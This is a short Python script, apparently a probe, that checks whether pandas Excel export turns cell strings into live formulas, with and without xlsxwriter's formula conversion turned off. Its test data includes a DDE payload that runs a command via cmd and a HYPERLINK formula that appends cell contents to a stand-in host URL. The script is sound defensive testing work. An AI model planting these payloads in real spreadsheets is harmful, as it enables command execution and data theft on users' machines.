"""Text of a table that becomes a formula in a workbook."""

import openpyxl
import pandas

from probing import tell

frame = pandas.DataFrame(
    {"name": ['=HYPERLINK("http://example.org/"&A1)', "=cmd|'/c calc'!A1", "+1", "@x", "plain"]}
)
frame.to_excel("plain.xlsx", index=False, engine="openpyxl")
options = {"options": {"strings_to_formulas": False, "strings_to_urls": False}}
with pandas.ExcelWriter("safe.xlsx", engine="xlsxwriter", engine_kwargs=options) as writer:
    frame.to_excel(writer, index=False)
kinds = {}
for name in ("plain.xlsx", "safe.xlsx"):
    [cells] = openpyxl.load_workbook(name).active.iter_cols(min_row=2)
    kinds[name.split(".")[0]] = [cell.data_type for cell in cells]
tell(**kinds)
